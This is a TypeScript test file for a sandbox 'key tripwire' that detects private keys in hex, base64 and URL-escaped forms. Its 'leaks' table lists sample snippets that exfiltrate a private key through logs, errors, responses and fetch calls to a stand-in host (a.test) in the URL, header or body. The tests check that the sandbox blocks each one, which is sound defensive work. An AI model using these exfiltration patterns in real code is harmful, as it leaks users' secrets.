import { expect } from "chai";
import fc from "fast-check";
import { Tripwire } from "../../../executor/sandbox/tripwire";
import type { OpCall } from "../../../executor/sandbox/types";
import { count, SEED } from "../../support/counts";
import { run } from "../../support/sandbox";

const KEY = "0x8f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f1";
const raw = Buffer.from(KEY.slice(2), "hex");

describe("the key tripwire", () => {
  const watching = (...keys: string[]) => {
    const tripwire = new Tripwire();
    for (const key of keys) tripwire.watch(key);
    return tripwire;
  };

  it("finds any key in any of its forms, wherever it stands", () => {
    const bytes = (length: number) => fc.uint8Array({ minLength: length, maxLength: length }).map((array) => Buffer.from(array));
    const around = fc.uint8Array({ maxLength: 5 }).map((array) => Buffer.from(array));
    fc.assert(
      fc.property(bytes(32), around, around, fc.string(), fc.string(), (key, before, after, left, right) => {
        const tripwire = watching(key.toString("hex"));
        const inside = Buffer.concat([before, key, after]);
        const forms = [
          key.toString("hex"),
          key.toString("hex").toUpperCase(),
          `0x${key.toString("hex")}`,
          inside.toString("base64"),
          inside.toString("base64url"),
          encodeURIComponent(inside.toString("base64")),
        ];
        for (const form of forms) if (!tripwire.isIn(`${left}${form}${right}`)) return false;
        return tripwire.isInBytes(inside);
      }),
      { seed: SEED, numRuns: count(200, 5_000), examples: [[Buffer.from(`${"00".repeat(27)}7fe0000000`, "hex"), Buffer.alloc(0), Buffer.alloc(0), "%", ""]] },
    );
  });

  it("does not fire at anything else", () => {
    const tripwire = watching(KEY);
    const others = fc.uint8Array({ minLength: 32, maxLength: 64 }).map((array) => Buffer.from(array));
    fc.assert(
      fc.property(others, (other) => !tripwire.isIn(other.toString("hex"), other.toString("base64")) && !tripwire.isInBytes(other)),
      { seed: SEED, numRuns: count(200, 5_000) },
    );
    expect(tripwire.isIn(undefined, "", KEY.slice(0, -1))).to.equal(false);
    expect(watching().isIn(KEY)).to.equal(false);
  });

  describe("in a run that was given a key", () => {
    const ops = (call: OpCall) => ({ ok: true as const, value: JSON.stringify(KEY), exposes: call.name === "getPrivateKey" ? [KEY] : [] });
    const read = `const key = await Actions.getPrivateKey({ pkpId: "0x1" });`;
    const b64 = raw.toString("base64");

    const leaks: Record<string, string> = {
      "in the response": `return { deep: ["a" + key.toUpperCase()] };`,
      "in the response as base64": `return btoa("ab" + String.fromCharCode(...ethers.getBytes(key)) + "c");`,
      "set as the response": `Actions.setResponse({ response: key.slice(2) });`,
      "in a log": `console.log("the key is", key); return 1;`,
      "in a log of its parts": `console.log({ nested: { key } });`,
      "in an error": `throw new Error("bad " + key);`,
      "in the name of an error": `const error = new Error("bad"); error.name = key; throw error;`,
      "thrown as it is": `throw key;`,
      "in a URL": `await fetch("http://a.test/?k=" + key);`,
      "in a URL as escaped base64": `await fetch("http://a.test/?k=" + encodeURIComponent("${b64}"));`,
      "in a header": `await fetch("http://a.test/", { headers: { "x-key": key } });`,
      "in a body": `await fetch("http://a.test/", { method: "POST", body: JSON.stringify({ key }) });`,
      "in a body as bytes": `await fetch("http://a.test/", { method: "POST", body: ethers.getBytes(key) });`,
      "in a fetch whose failure is caught": `try { await fetch("http://a.test/?" + key); } catch {} return 1;`,
    };
    for (const [where, statement] of Object.entries(leaks)) {
      it(`${where}: key_exposed, nothing goes out`, async () => {
        const outcome = await run(`async function main() { console.log("logged"); ${read} ${statement} }`, { ops });
        expect(outcome).to.deep.include({ response: "null", logs: "" });
        expect(outcome.error?.code, JSON.stringify(outcome)).to.equal("key_exposed");
        expect(outcome.error).to.not.have.property("stack");
        expect(JSON.stringify(outcome).toLowerCase()).to.not.contain(KEY.slice(2, 20));
      });
    }

    it("a run that only uses its key is not disturbed", async () => {
      const outcome = await run(`async function main() { ${read} console.log("used"); return new ethers.Wallet(key).address; }`, { ops });
      expect(outcome.error).to.equal(undefined);
      expect(outcome.logs).to.equal("used\n");
    });

    it("an end by force is watched, too", async () => {
      const outcome = await run(`async function main() { ${read} console.log(key); for (;;); }`, { ops, limits: { wallMs: 300 } });
      expect(outcome).to.deep.include({ logs: "" });
      expect(outcome.error?.code).to.equal("key_exposed");
    });
  });
});
